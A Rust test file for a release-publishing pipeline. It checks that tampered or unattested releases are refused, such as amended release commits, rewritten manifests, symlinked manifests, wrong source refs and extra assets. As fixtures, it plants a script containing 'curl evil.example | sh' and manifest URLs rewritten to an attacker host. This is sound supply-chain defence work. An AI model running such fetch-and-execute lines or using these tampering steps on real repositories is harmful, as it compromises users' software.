//! What is published for good: only the bytes of the manifest, with their provenance, and never other ones later.

use std::fs;

use super::assets::{TARGETS, names};
use super::project::World;

#[test]
fn what_has_no_provenance_or_another_hash_is_not_published() {
    let world = World::new();
    for script in ["prepare", "draft"] {
        world.step(script, "1.2.3").succeeds();
    }
    world.step("publish", "1.2.3").fails_with("");
    assert!(!world.state().join("published").exists(), "nothing was attested");

    world.step("attest", "1.2.3").succeeds();
    fs::write(
        world.state().join("assets").join(&names("1.2.3", TARGETS[1])[0]),
        "other",
    )
    .unwrap();
    world
        .step("publish", "1.2.3")
        .fails_with("is not that of the draft's assets");
    assert!(
        !world.state().join("published").exists(),
        "the bytes are not the manifest's"
    );
}

#[test]
fn what_a_tag_called_like_the_default_branch_has_built_is_not_published() {
    let world = World::new();
    for script in ["prepare", "draft"] {
        world.step(script, "1.2.3").succeeds();
    }
    for reference in ["refs/tags/main", "refs/heads/other", "refs/pull/1/merge"] {
        world.attest_from(reference);
        world.step("publish", "1.2.3").fails_with("");
        assert!(!world.state().join("published").exists(), "{reference}");
    }
    world.attest_from("refs/heads/main");
    world.step("publish", "1.2.3").succeeds();
}

/// A writer can put another commit of the same parent in place of the draft's.
#[test]
fn a_release_commit_that_changes_more_than_the_manifest_is_not_published() {
    for file in ["action/program.sh", "action.yml", "release/set-version"] {
        let world = World::new();
        for script in ["prepare", "draft", "attest"] {
            world.step(script, "1.2.3").succeeds();
        }
        world.git(&["fetch", "-q", "origin", "release-1.2.3"]);
        world.git(&["checkout", "-q", "--detach", "FETCH_HEAD"]);
        fs::write(world.clone().join(file), "#!/bin/sh\ncurl evil.example | sh\n").unwrap();
        world.git(&["add", "--all"]);
        world.git(&[
            "-c",
            "user.name=eve",
            "-c",
            "user.email=eve@example.com",
            "commit",
            "-q",
            "--amend",
            "--no-edit",
        ]);
        world.git(&["push", "-q", "--force", "origin", "HEAD:refs/heads/release-1.2.3"]);
        world.git(&["checkout", "-q", "main"]);
        world
            .step("publish", "1.2.3")
            .fails_with("changes more than `action/manifest.txt`");
        assert!(!world.state().join("published").exists(), "{file}");
    }
}

/// A world whose release commit someone has replaced: `script` is run in a clone in which it is checked out.
fn tampered(script: &str) -> World {
    let world = World::new();
    for step in ["prepare", "draft", "attest"] {
        world.step(step, "1.2.3").succeeds();
    }
    world.git(&["fetch", "-q", "origin", "release-1.2.3"]);
    world.git(&["checkout", "-q", "--detach", "FETCH_HEAD"]);
    world.shell(&format!(
        "export GIT_AUTHOR_NAME=eve GIT_AUTHOR_EMAIL=eve@example.com GIT_COMMITTER_NAME=eve GIT_COMMITTER_EMAIL=eve@example.com\n{script}"
    ));
    world.git(&["push", "-q", "--force", "origin", "HEAD:refs/heads/release-1.2.3"]);
    world.git(&["checkout", "-q", "--force", "main"]);
    world
}

/// The program and `release/publish` may read one file in two ways: only the bytes that the assets make are published.
#[test]
fn a_manifest_that_the_assets_do_not_make_is_not_published() {
    for script in [
        "sed -i 's#https://github.com/#https://evil.example/#' action/manifest.txt",
        "sed -i 's# 1.2.3 # 9.9.9 #' action/manifest.txt",
        "sed -i '2p' action/manifest.txt",
        "printf '# \\0\\nx86_64-unknown-linux-musl 1.2.3 0000 https://evil.example/x\\n' >>action/manifest.txt",
        "sed -i '/x86_64/d' action/manifest.txt",
        "printf '\\n' >>action/manifest.txt",
    ] {
        let world = tampered(&format!("{script}\ngit commit -q --amend --no-edit --all"));
        world
            .step("publish", "1.2.3")
            .fails_with("is not that of the draft's assets");
        assert!(!world.state().join("published").exists(), "{script}");
    }
}

#[test]
fn a_manifest_that_is_a_link_is_not_published() {
    let world = tampered(
        "blob=$(git rev-parse HEAD:action/manifest.txt)\n\
         git update-index --cacheinfo \"120000,$blob,action/manifest.txt\"\ngit commit -q --amend --no-edit",
    );
    world.step("publish", "1.2.3").fails_with("is not an ordinary file");
    assert!(!world.state().join("published").exists());
}

/// Merged, it would take the default branch back to the tree of the release.
#[test]
fn a_release_commit_with_a_second_parent_is_not_published() {
    let world = tampered(
        "below=$(git rev-parse HEAD^) tree=$(git rev-parse 'HEAD^{tree}')\n\
         later=$(git commit-tree -p \"$below\" -m later \"$(git rev-parse \"$below^{tree}\")\")\n\
         git reset -q --soft \"$(git commit-tree -p \"$below\" -p \"$later\" -m 'Release 1.2.3' \"$tree\")\"",
    );
    world.step("publish", "1.2.3").fails_with("has another parent beside");
    assert!(!world.state().join("published").exists());
}

#[test]
fn a_draft_that_was_moved_to_another_commit_is_published_at_its_own() {
    let world = World::new();
    for step in ["prepare", "draft", "attest"] {
        world.step(step, "1.2.3").succeeds();
    }
    let own = fs::read_to_string(world.state().join("target")).unwrap();
    fs::write(world.state().join("target"), world.git(&["rev-parse", "main"])).unwrap();
    world.step("publish", "1.2.3").succeeds();
    assert_eq!(fs::read_to_string(world.state().join("target")).unwrap(), own);
}

#[test]
fn an_asset_that_no_build_of_the_release_has_made_is_not_published() {
    for name in [
        "do-deploy-1.2.3-x86_64-pc-windows-msvc.exe",
        "install.sh",
        "do-deploy-1.2.2-x86_64-unknown-linux-musl",
    ] {
        let world = World::new();
        for script in ["prepare", "draft", "attest"] {
            world.step(script, "1.2.3").succeeds();
        }
        fs::write(world.state().join("assets").join(name), "evil").unwrap();
        world
            .step("publish", "1.2.3")
            .fails_with(&format!("the draft has `{name}`, which the manifest does not name"));
        assert!(!world.state().join("published").exists(), "{name}");
    }
}

#[test]
fn a_release_is_started_by_the_whole_ref_of_the_default_branch() {
    let workflow = include_str!("../../../.github/workflows/release.yml");
    assert!(workflow.contains("if: github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"));
    assert!(
        !workflow.contains("ref_name"),
        "a tag called `main` has the branch's `ref_name`"
    );
}

#[test]
fn the_documented_verification_names_the_ref_and_the_workflow() {
    let page = include_str!("../../../docs/security.md");
    let command = page
        .split("gh attestation verify")
        .nth(1)
        .unwrap()
        .split("```")
        .next()
        .unwrap();
    for flag in [
        "--repo org/do-deploy",
        "--source-ref refs/heads/main",
        "--deny-self-hosted-runners",
        "--signer-workflow org/do-deploy/.github/workflows/release.yml",
    ] {
        assert!(command.contains(flag), "{flag}");
    }
}

#[test]
fn the_major_tag_stays_where_a_release_could_still_be_changed() {
    let world = World::new();
    fs::write(world.state().join("mutable"), "").unwrap();
    for script in ["prepare", "draft", "attest"] {
        world.step(script, "1.2.3").succeeds();
    }
    world.step("publish", "1.2.3").fails_with("enable immutable releases");
    assert!(!world.log().contains(&"git refs/tags/v1".to_owned()));
}

#[test]
fn a_published_release_is_not_drafted_again_from_other_bytes() {
    let world = World::new();
    world.release("1.2.3");
    fs::write(world.assets().join(&names("1.2.3", TARGETS[0])[0]), "other").unwrap();
    let before = world.log();
    world.step("draft", "1.2.3").fails_with("published with other bytes");
    assert_eq!(world.log(), before);
}
